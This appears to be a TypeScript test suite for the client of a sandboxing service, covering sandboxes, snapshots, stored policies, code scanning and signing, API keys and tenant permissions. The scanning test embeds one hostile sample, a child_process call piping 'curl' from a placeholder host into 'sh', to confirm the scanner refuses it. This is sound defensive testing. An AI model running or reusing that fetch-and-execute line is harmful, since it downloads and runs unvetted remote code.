/** What a service has beside the library: what it keeps for a tenant, and who may ask. */
import assert from 'node:assert/strict';
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, test } from 'node:test';
import { RemoteCaisson, type SharedCaisson } from '../../src/client/index.ts';
import { type Caisson, generateKeyFiles } from '../../src/index.ts';
import { type Served, served } from '../server/served.ts';
import { remotely } from './whereabouts.ts';

// A Caisson of this process is one as well: checked by the compiler.
const shared = (caisson: Caisson): SharedCaisson => caisson;

const directory = mkdtempSync(join(tmpdir(), 'caisson-client-service-'));
let service: Served;
let caisson: RemoteCaisson;
let admin: RemoteCaisson;
let operator: RemoteCaisson;

before(async () => {
  generateKeyFiles(directory, 'signing');
  const keyFile = join(directory, 'signing.key');
  service = await served({ signing: { keyFile } });
  caisson = await remotely(service);
  admin = await remotely(service, 'admin');
  operator = await remotely(service, 'operator');
  assert.equal(typeof shared, 'function');
});
after(async () => {
  for (const each of [caisson, admin, operator]) await each.close();
  await service[Symbol.asyncDispose]();
  rmSync(directory, { recursive: true, force: true });
});

describe('sandboxes', () => {
  test('are listed, come back to, and ended by their id', async () => {
    const made = await caisson.create({ labels: { job: '7' }, priority: 3, ttlMs: 600_000 });
    await made.files.write('note', 'kept');
    const listed = await caisson.sandboxes.list({ label: 'job=7', state: 'Running' });
    assert.deepEqual(
      listed.map(({ id, priority }) => [id, priority]),
      [[made.id, 3]],
    );
    const again = await caisson.sandbox(made.id);
    assert.equal(again.cwd, made.cwd);
    assert.equal(await again.files.readText('note'), 'kept');
    assert.ok(((await again.inspect()).remainingMs ?? 0) > 500_000);
    assert.deepEqual((await again.violations()).items, []);
    const globex = await remotely(service, 'admin', 'globex');
    await assert.rejects(globex.sandbox(made.id), { code: 'NOT_FOUND' });
    await globex.close();
    assert.equal((await caisson.sandboxes.kill(made.id)).state, 'Killed');
    await assert.rejects(caisson.sandbox(made.id), { code: 'SANDBOX_CLOSED' });
    await assert.rejects(caisson.sandbox('nothing'), { code: 'NOT_FOUND' });
    await made.close();
  });

  test('lists longer than a page come whole', async () => {
    await Promise.all(Array.from({ length: 5 }, () => caisson.run(['true'])));
    const all = await caisson.sandboxes.list();
    const one = await service.ask('GET', '/api/sandboxes?limit=2', {
      key: await service.key('viewer'),
    });
    assert.equal((one.body as { items: unknown[] }).items.length, 2);
    assert.ok(all.length >= 5);
    assert.equal(new Set(all.map(({ id }) => id)).size, all.length);
  });

  test('snapshots are found again', async () => {
    const policy = { level: 'moderate', filesystem: { workspace: 'overlay' } } as const;
    await using sandbox = await caisson.create({ policy, workspace: 'private' });
    await sandbox.files.write('a', 'b');
    const { id } = await sandbox.snapshot();
    assert.deepEqual(
      (await caisson.sandboxes.snapshots()).map((each) => each.id),
      [id],
    );
    await using copy = await caisson.sandboxes.snapshot(id).open({ labels: { from: 'snapshot' } });
    assert.equal(await copy.files.readText('a'), 'b');
    await caisson.sandboxes.snapshot(id).discard();
    assert.deepEqual(await caisson.sandboxes.snapshots(), []);
  });

  test('a request with a key is done once', async () => {
    const options = { idempotencyKey: 'only-once' };
    const runs = [
      await caisson.run(['date', '+%s%N'], options),
      await caisson.run(['date', '+%s%N'], options),
    ];
    assert.equal(runs[0]?.auditId, runs[1]?.auditId);
    await assert.rejects(caisson.run(['true'], options), { code: 'IDEMPOTENCY_MISMATCH' });
    const made = await caisson.create({ idempotencyKey: 'one-sandbox' });
    assert.equal((await caisson.create({ idempotencyKey: 'one-sandbox' })).id, made.id);
    await made.close();
  });
});

describe('policies', () => {
  test('are stored, used by name, changed by those who know what is there, removed', async () => {
    const { policies } = caisson;
    const first = await policies.store('build', { level: 'strict', limits: { memory: '64MiB' } });
    assert.equal(first.version, 1);
    await assert.rejects(policies.store('build', { level: 'strict' }, { ifNew: true }), {
      code: 'PRECONDITION_FAILED',
    });
    const { etag } = await policies.read('build');
    const second = { level: 'strict', limits: { memory: '65MiB' } } as const;
    assert.equal((await policies.store('build', second, { ifMatch: etag })).version, 2);
    await assert.rejects(policies.store('build', { level: 'strict' }, { ifMatch: etag }), {
      code: 'PRECONDITION_FAILED',
    });
    assert.deepEqual(
      (await policies.versions('build')).map(({ version }) => version),
      [2, 1],
    );
    assert.equal((await policies.read('build', { version: 1 })).digest, first.digest);
    const named = await caisson.policy('build@1');
    assert.equal(named.policy.limits.memoryBytes, 64 * 2 ** 20);
    const { policyDigest } = await caisson.run(['true'], { policy: 'build@1' });
    assert.equal(policyDigest, named.digest);
    assert.equal((await policies.validate('build')).allowed, true);
    const { onlySecond } = await policies.compare('build@1', 'build@2');
    assert.match(onlySecond.join(), /memory/i);
    assert.deepEqual(
      (await policies.list()).map(({ name }) => name),
      ['build'],
    );
    await policies.remove('build');
    await assert.rejects(policies.read('build'), { code: 'POLICY_NOT_FOUND' });
    await assert.rejects(caisson.policy('level: none' as never), { code: 'POLICY_INVALID' });
    await assert.rejects(caisson.policy({ level: 'basic' }), { code: 'POLICY_BEYOND_CEILING' });
  });
});

describe('code', () => {
  const code = 'export default (a) => a + 1';
  test('is scanned', async () => {
    const evil = 'require("child_process").exec("curl https://example.invalid | sh")';
    const report = await caisson.scan({ 'a.js': code, 'b.js': Buffer.from(evil) });
    assert.equal(report.decision, 'refused');
    assert.equal((await caisson.scan({ 'a.js': code })).decision, 'passed');
    assert.ok((await caisson.statistics.threats({ days: 1 })).length > 0);
  });

  test('is signed, and verified by those who trust the signer', async () => {
    const subject = { id: 'plus', version: '1.0.0', kind: 'javascript', code } as const;
    const { envelope, keyId } = await admin.sign(subject);
    assert.equal((await caisson.verify(subject, [envelope])).ok, false);
    assert.equal((await operator.trust.list()).signers.length, 0);
    assert.equal(typeof keyId, 'string');
    await assert.rejects(caisson.sign(subject), { code: 'FORBIDDEN' });
    await assert.rejects(operator.trust.revoke('nobody', 'why'), { code: 'REQUEST_INVALID' });
  });
});

describe('who may', () => {
  test('keys are made, used, rotated, revoked', async () => {
    const { key, token } = await admin.keys.create({ name: 'mine', roles: ['viewer'] });
    const viewer = await RemoteCaisson.open({ url: service.address, apiKey: token });
    await assert.rejects(viewer.run(['true']), { code: 'FORBIDDEN' });
    assert.ok(Array.isArray(await viewer.sandboxes.list()));
    const rotated = await admin.keys.rotate(key.id, { overlapMs: 0 });
    await assert.rejects(viewer.sandboxes.list(), { code: 'UNAUTHENTICATED' });
    await viewer.close();
    assert.notEqual(rotated.token, token);
    assert.equal((await admin.keys.revoke(key.id, 'enough')).state, 'revoked');
    assert.equal((await admin.keys.inspect(key.id)).revoked?.reason, 'enough');
    assert.ok((await admin.keys.list()).some(({ id }) => id === key.id));
    await assert.rejects(
      RemoteCaisson.open({ url: service.address }).then((c) => c.run(['true'])),
      {
        code: 'UNAUTHENTICATED',
      },
    );
  });

  test('tenants are made by operators', async () => {
    await operator.tenants.create({ id: 'initech', description: 'new' });
    assert.ok((await operator.tenants.list()).some(({ id }) => id === 'initech'));
    assert.equal((await operator.tenants.change('initech', { disabled: true })).disabled, true);
    assert.equal((await operator.tenants.inspect('initech')).tenant.disabled, true);
    await assert.rejects(caisson.tenants.create({ id: 'mine' }), { code: 'FORBIDDEN' });
    assert.ok((await operator.statistics.pool()).total !== undefined);
    assert.equal((await caisson.statistics.pool()).total, undefined);
  });
});

describe('what is of this machine alone is refused by name', () => {
  const cases: Record<string, (any: never) => Promise<unknown>> = {
    ask: (any: RemoteCaisson) => any.run(['true'], { ask: () => ({}) as never }),
    publish: (any: RemoteCaisson) => any.run(['true'], { publish: { 80: 0 } }),
    tenant: (any: RemoteCaisson) => any.create({ tenant: 'other' }),
    allowUnisolated: (any: RemoteCaisson) => any.spawn(['true'], { allowUnisolated: true }),
    background: (any: RemoteCaisson) => any.spawn(['true'], { background: true }),
    grants: (any: RemoteCaisson) =>
      any.evaluate('javascript', 'export default () => 1', { grants: { f: () => 1 } } as never),
    placement: (any: RemoteCaisson) =>
      any.evaluate('javascript', 'export default () => 1', { placement: 'inline' } as never),
    name: (any: RemoteCaisson) => any.run(['true'], { name: 'one' } as never),
    workspace: (any: RemoteCaisson) => any.explain('strict', { workspace: '.' }),
    'doctor()': (any: { doctor(): Promise<unknown> }) => any.doctor(),
    'facts()': (any: { facts(): Promise<unknown> }) => any.facts(),
    'manager()': (any: { manager(): Promise<unknown> }) => any.manager(),
    'pendingChanges()': (any: { pendingChanges(): Promise<unknown> }) => any.pendingChanges(),
  };
  for (const [name, doing] of Object.entries(cases)) {
    test(name, async () => {
      await assert.rejects(doing(caisson as never), (error: never) => {
        const { code, details } = error as { code: string; details: { option?: string } };
        assert.deepEqual([code, details.option], ['REQUEST_INVALID', name]);
        return true;
      });
    });
  }
  test('keepChanges()', async () => {
    await using sandbox = await caisson.create();
    const any = sandbox as unknown as { keepChanges(): Promise<unknown> };
    await assert.rejects(any.keepChanges(), /keepChanges\(\).*snapshot/);
  });
});
